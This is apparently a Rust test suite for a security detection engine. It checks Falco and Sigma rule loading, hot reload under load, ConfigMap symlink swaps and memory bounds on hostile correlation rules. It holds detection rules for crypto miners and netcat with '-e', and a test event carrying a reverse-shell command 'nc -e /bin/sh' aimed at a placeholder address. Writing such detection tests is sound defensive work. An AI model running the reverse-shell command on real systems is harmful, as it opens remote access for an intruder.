//! Rule files (Falco and Sigma YAML) in the rule directory, run by the
//! interpreter component: alerts named after their rules, hot reload of an
//! edited file under a steady stream with nothing lost or doubled, a broken
//! edit keeping the old version, a ConfigMap-style symlink swap, and
//! `rules check` reporting what cannot run while the rest of the file alerts.

use std::collections::HashMap;
use std::path::Path;
use std::process::Stdio;

use vigil_engine::config::Config;

use crate::support::*;

const FALCO: &str = r#"
- list: miner_names
  items: [xmrig, minerd]
- macro: spawned_process
  condition: evt.type in (execve, execveat) and evt.dir=<
- rule: Miner started
  desc: a known miner binary
  condition: spawned_process and proc.name in (miner_names)
  output: "miner %proc.name started (cmdline=%proc.cmdline parent=%proc.pname tty=%proc.tty)"
  priority: CRITICAL
  tags: [T1496]
- rule: Written for files only
  desc: not evaluated on exec events
  condition: evt.type=openat and fd.name startswith /etc
  output: x
  priority: ERROR
"#;

const SIGMA: &str = r#"
title: Netcat with exec
id: 0b7f3a2e-1111-4a4a-9b9b-000000000001
logsource:
  category: process_creation
  product: linux
detection:
  selection:
    Image|endswith: ['/nc', '/ncat']
    CommandLine|contains: ' -e '
  condition: selection
level: high
tags: [attack.execution, attack.t1059]
"#;

/// A rule directory with the interpreter and `files` (name, text).
fn rule_files_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = rule_dir(&["declarative"]);
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

fn config(cache: &Path) -> Config {
    let mut c = Config { cache_dir: Some(cache.to_path_buf()), ..Default::default() };
    // Rules here alert on every event: above the per-rule safety valve.
    c.dispatch.max_alerts_per_sec = 10_000_000;
    c.dispatch.call_timeout = std::time::Duration::from_secs(2);
    c
}

#[test]
fn falco_and_sigma_files_alert_under_their_rules_names() {
    let dir = rule_files_dir(&[("10-miners.yaml", FALCO), ("netcat.yml", SIGMA)]);
    let cache = tempfile::tempdir().unwrap();
    let events = vec![
        exec("/usr/local/bin/xmrig", &["xmrig", "-o", "pool.invalid:3333"]),
        exec("/bin/nc", &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]),
        exec("/bin/ls", &["ls", "-l"]),
    ];
    let source = PacedSource { events, per_sec: 1_000, batch: 10, hooks: Vec::new() };
    let (summary, output) = run_pipeline(config(cache.path()), dir.path(), false, source);
    let alerts = output.alerts();
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    let miner = alerts.iter().find(|a| a.rule == "Miner started").expect("the Falco rule's alert");
    // No terminal: 0, as Falco gives it.
    assert_eq!(miner.output, "miner xmrig started (cmdline=xmrig -o pool.invalid:3333 parent=<NA> tty=0)");
    assert_eq!(format!("{:?}", miner.priority), "Critical");
    assert!(miner.tags.contains(&"T1496".to_string()));
    assert_eq!(miner.output_fields["proc.exepath"], "/usr/local/bin/xmrig");
    let nc = alerts.iter().find(|a| a.rule == "Netcat with exec").expect("the Sigma rule's alert");
    assert_eq!(format!("{:?}", nc.priority), "Error");
    assert_eq!(nc.output_fields["sigma.id"], "0b7f3a2e-1111-4a4a-9b9b-000000000001");
    let stats = &summary.rules.iter().find(|(id, _)| id == "rule-files").expect("one rule-files instance").1;
    assert_eq!(stats.events_in.load(std::sync::atomic::Ordering::Relaxed), 3);
    let by_rule = stats.alerts_by_rule.lock().unwrap().clone();
    assert_eq!(by_rule.into_iter().collect::<Vec<_>>(), [("Miner started".into(), 1), ("Netcat with exec".into(), 1)]);
}

#[test]
fn edits_swap_under_load_lose_and_duplicate_nothing_and_broken_edits_keep_the_old_version() {
    const N: usize = 200_000;
    let rule = |version: &str| {
        format!(
            "- rule: Every ok\n  desc: fires on each event\n  condition: evt.type=execve and proc.name=ok\n  output: \"{version} %evt.num\"\n  priority: NOTICE\n"
        )
    };
    let dir = rule_files_dir(&[("every.yaml", &rule("v1"))]);
    let cache = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let d = dir.path().to_path_buf();
    let hooks: Vec<(usize, Box<dyn FnOnce() + Send>)> = vec![
        (40_000, {
            let (d, text) = (d.clone(), rule("v2"));
            Box::new(move || replace_atomically(&d, "every.yaml", text.as_bytes()))
        }),
        (90_000, {
            let d = d.clone();
            Box::new(move || std::fs::write(d.join("every.yaml"), "- rule: [unclosed\n").unwrap())
        }),
        (115_000, {
            // Not even text: as unreadable as a file can be while it is there.
            let d = d.clone();
            Box::new(move || std::fs::write(d.join("every.yaml"), b"- rule: \xff\xfe\n").unwrap())
        }),
        (140_000, {
            let (d, out, text) = (d.clone(), outside.path().to_path_buf(), rule("v3"));
            Box::new(move || {
                std::fs::write(out.join("every.yaml"), text).unwrap();
                std::fs::rename(out.join("every.yaml"), d.join("every.yaml")).unwrap(); // mv over
            })
        }),
    ];
    let events: Vec<_> = (0..N).map(|_| exec("/bin/ok", &["ok"])).collect();
    let source = PacedSource { events, per_sec: 100_000, batch: 100, hooks };
    let (summary, output) = run_pipeline(config(cache.path()), &d, true, source);

    let stats = &summary.rules.iter().find(|(id, _)| id == "rule-files").unwrap().1;
    assert_eq!(stats.faults(), 0, "no call faulted");
    let mut seen: HashMap<u64, String> = HashMap::new();
    for a in output.alerts() {
        assert_eq!(a.rule, "Every ok");
        let (version, num) = a.output.split_once(' ').unwrap();
        let num: u64 = num.parse().unwrap();
        assert_eq!(a.output_fields["evt.num"], num);
        assert!(seen.insert(num, version.to_string()).is_none(), "event {num} alerted twice");
    }
    assert_eq!(seen.len(), N, "every event alerted once");
    let version_of = |n: u64| seen[&n].clone();
    assert_eq!(version_of(1), "v1");
    assert_eq!(version_of(N as u64), "v3", "the last edit runs at the end");
    // Versions only move forward, and the broken edit changed nothing: v2 ran until v3.
    let order: Vec<String> = (1..=N as u64).map(version_of).collect();
    let mut changes: Vec<&str> = order.iter().map(String::as_str).collect();
    changes.dedup();
    assert_eq!(changes, ["v1", "v2", "v3"]);
}

#[test]
fn a_configmap_style_symlink_swap_reloads_the_files() {
    // Kubernetes mounts a ConfigMap as `name -> ..data/name`, `..data -> ..<timestamp>`,
    // and updates it by pointing `..data` at a new directory (rename over the link).
    let dir = rule_dir(&["declarative"]);
    let d = dir.path().to_path_buf();
    let version = |n: u32| {
        let v = d.join(format!("..2026_12_07_0{n}"));
        std::fs::create_dir(&v).unwrap();
        std::fs::write(
            v.join("cm.yaml"),
            format!("- rule: CM\n  desc: d\n  condition: evt.type=execve and proc.name=ok\n  output: \"cm{n}\"\n  priority: NOTICE\n"),
        )
        .unwrap();
        v
    };
    let v1 = version(1);
    std::os::unix::fs::symlink(&v1, d.join("..data")).unwrap();
    std::os::unix::fs::symlink("..data/cm.yaml", d.join("cm.yaml")).unwrap();
    let cache = tempfile::tempdir().unwrap();
    let hooks: Vec<(usize, Box<dyn FnOnce() + Send>)> = vec![(5_000, {
        let (d, v2) = (d.clone(), version(2));
        Box::new(move || {
            std::os::unix::fs::symlink(&v2, d.join("..data_tmp")).unwrap();
            std::fs::rename(d.join("..data_tmp"), d.join("..data")).unwrap();
        })
    })];
    let events: Vec<_> = (0..20_000).map(|_| exec("/bin/ok", &["ok"])).collect();
    let source = PacedSource { events, per_sec: 10_000, batch: 50, hooks };
    let (_, output) = run_pipeline(config(cache.path()), &d, true, source);
    let alerts = output.alerts();
    assert_eq!(alerts.len(), 20_000);
    assert_eq!(alerts.first().unwrap().output, "cm1");
    assert_eq!(alerts.last().unwrap().output, "cm2", "the swapped ConfigMap runs");
}

#[test]
fn rules_check_reports_what_cannot_run_and_the_rest_of_the_file_alerts() {
    let dir = rule_files_dir(&[("10-miners.yaml", FALCO)]);
    let file = dir.path().join("10-miners.yaml");
    let out = vigil().args(["rules", "check", "--json"]).arg(&file).stdin(Stdio::null()).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["name"], "10-miners.yaml");
    assert_eq!(report["dialect"], "falco");
    let rules = report["rules"].as_array().unwrap();
    assert_eq!(rules[0]["name"], "Miner started");
    assert_eq!(rules[0]["status"], "loaded");
    assert_eq!(rules[0]["kinds"], serde_json::json!(["process-exec"]));
    assert_eq!(rules[1]["status"], "unsupported");
    assert!(rules[1]["reason"].as_str().unwrap().contains("fd.name"), "{}", rules[1]);

    // Text form, and a file that is not YAML makes the check fail.
    std::fs::write(dir.path().join("20-broken.yaml"), "- rule: [unclosed\n").unwrap();
    let out = vigil().args(["rules", "check"]).arg(dir.path()).stdin(Stdio::null()).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("10-miners.yaml (falco): 1 loaded, 1 unsupported"), "{text}");
    assert!(text.contains("20-broken.yaml: INVALID: not valid YAML"), "{text}");
    std::fs::remove_file(dir.path().join("20-broken.yaml")).unwrap();

    // The daemon runs the loadable rule of the same file.
    let replay = dir.path().join("events.jsonl");
    std::fs::write(
        &replay,
        r#"{"kind":"process-exec","time_ns":1700000000000000000,"process":{"pid":7,"comm":"xmrig","exe":"/tmp/xmrig","argv":["xmrig"]}}"#,
    )
    .unwrap();
    let out = vigil().arg("replay").arg(&replay).arg("--rules").arg(dir.path()).stdin(Stdio::null()).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains(r#""rule":"Miner started""#), "{stdout}");
    assert!(stderr.contains("rule not run: unsupported") && stderr.contains("Written for files only"), "{stderr}");

    // Without the interpreter, `rules check` says where it looked.
    let bare = tempfile::tempdir().unwrap();
    std::fs::write(bare.path().join("x.yaml"), FALCO).unwrap();
    let out = vigil()
        .args(["rules", "check", "--interpreter"])
        .arg(bare.path().join("missing.wasm"))
        .arg(bare.path().join("x.yaml"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("no interpreter component") && err.contains("--interpreter"), "{err}");
}

#[test]
fn sighup_reloads_the_rule_files_under_the_new_config() {
    // After a few alerts the config disables the rule files and SIGHUP applies it.
    let dir = rule_files_dir(&[(
        "shells.yaml",
        "- rule: Shell\n  desc: d\n  condition: evt.type=execve and proc.name=bash\n  output: \"shell %evt.num\"\n  priority: NOTICE\n",
    )]);
    let (alerted, err) = replay_then_disable_by_sighup(dir.path(), false, "rule-files");
    assert!(err.contains("SIGHUP") && err.contains("rule files disabled by config"), "{err}");
    assert!(alerted.iter().all(|&n| n < 35), "no alerts after the reload took effect: {alerted:?}");
}

#[test]
fn a_hostile_correlation_file_stays_bounded_and_the_other_files_keep_alerting() {
    // As many correlations as load (64), over a rule that matches every
    // exec, each grouping by a value no two events share and keeping each
    // group's command line: alone, each keeps up to 4,096 groups, 64 x 4,096
    // of them would pass the interpreter's memory (64 MiB by default) and
    // blind every rule file with it. The total bound keeps them to 16,384.
    let mut hostile = String::from(
        "title: any exec\nname: any\nlogsource: {category: process_creation, product: linux}\n\
         detection: {sel: {Image|exists: true}, condition: sel}\n",
    );
    for i in 0..64 {
        hostile.push_str(&format!(
            "---\ntitle: hoard {i}\ncorrelation: {{type: value_count, rules: [any], group-by: [ProcessId], \
             timespan: 30d, condition: {{field: CommandLine, gte: 2}}}}\n"
        ));
    }
    let dir = rule_files_dir(&[("10-miners.yaml", FALCO), ("90-hoard.yml", &hostile)]);
    let cache = tempfile::tempdir().unwrap();
    const N: usize = 12_000;
    let events: Vec<_> = (0..N)
        .map(|i| {
            let mut e = if i % 100 == 0 {
                exec("/usr/local/bin/xmrig", &["xmrig", "-o", "pool.invalid:3333", &format!("--id={i}")])
            } else {
                exec("/bin/true", &["true", &format!("{i:0>200}")])
            };
            let p = e.process.as_mut().unwrap();
            (p.pid, p.tgid) = (100_000 + i as u32, 100_000 + i as u32);
            e
        })
        .collect();
    let mut config = config(cache.path());
    config.dispatch.memory_limit = Config::default().dispatch.memory_limit;
    let source = PacedSource { events, per_sec: 2_000, batch: 50, hooks: Vec::new() };
    let (summary, output) = run_pipeline(config, dir.path(), false, source);
    let stats = &summary.rules.iter().find(|(id, _)| id == "rule-files").unwrap().1;
    assert_eq!(stats.faults(), 0, "the interpreter never faulted (no memory trap)");
    let alerts = output.alerts();
    assert_eq!(alerts.iter().filter(|a| a.rule == "Miner started").count(), N / 100, "every miner alerted");
    let other: Vec<_> = alerts.iter().filter(|a| a.rule != "Miner started").take(3).collect();
    assert!(other.is_empty(), "the hoarding correlations never complete: {other:#?}");
}
